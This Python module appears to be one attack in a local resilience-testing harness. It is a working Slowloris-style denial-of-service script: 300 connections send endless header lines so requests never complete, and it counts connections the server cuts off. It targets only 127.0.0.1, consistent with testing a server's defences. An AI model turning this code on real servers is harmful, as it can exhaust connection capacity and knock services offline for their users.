"""A visitor whose requests never come to the end of their headers."""

from __future__ import annotations

import asyncio
import contextlib
import time
from collections import Counter

from attack.target import Target

SOCKETS = 300
HERE = "127.0.0.68"


async def attack(target: Target) -> str:
    """Goes on for about `target.seconds`, then says how many connections were opened and cut off."""
    end = time.monotonic() + target.seconds
    doors = [target.ports[door] for door in ("web", "dr2d") if door in target.ports]
    seen: Counter[str] = Counter()

    async def one(port: int) -> None:
        while time.monotonic() < end:
            with contextlib.suppress(OSError):
                reader, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=(HERE, 0))
                seen["opened"] += 1
                writer.write(b"GET / HTTP/1.1\r\nHost: x\r\n")
                while time.monotonic() < end and not reader.at_eof():
                    writer.write(b"X-a: b\r\n")
                    await writer.drain()
                    with contextlib.suppress(TimeoutError):
                        async with asyncio.timeout(1):
                            await reader.read(1000)
                seen["cut off"] += time.monotonic() < end
                writer.close()
            await asyncio.sleep(0.2)

    await asyncio.gather(*(one(doors[number % len(doors)]) for number in range(SOCKETS)))
    return ", ".join(f"{count} {what}" for what, count in seen.items())
